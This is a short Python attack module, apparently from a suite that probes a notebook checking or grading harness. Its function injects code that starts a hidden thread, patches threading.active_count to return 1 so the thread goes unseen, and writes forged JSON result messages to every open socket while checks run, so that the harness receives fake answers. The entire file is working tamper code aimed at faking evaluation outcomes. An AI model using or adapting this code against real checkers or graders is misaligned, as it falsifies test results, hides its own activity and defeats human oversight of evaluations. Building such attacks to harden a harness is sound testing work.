"""Hides threads from the threading module, which write answers to every socket while checks run."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import _thread, json, os, stat, struct, threading, time
def answer():
    while True:
        for value in (True, ['handle', 0, 'function', 'x'], None):
            head = json.dumps([{'value': value, 'changed': [], 'printed': [['stdout', 'x']]}, []]).encode()
            for fd in range(3, 64):
                try:
                    if stat.S_ISSOCK(os.fstat(fd).st_mode): os.write(fd, struct.pack('<I', len(head)) + head)
                except OSError: pass
        time.sleep(0.02)
threading.active_count = lambda: 1
_thread.start_new_thread(answer, ())
""",
    )
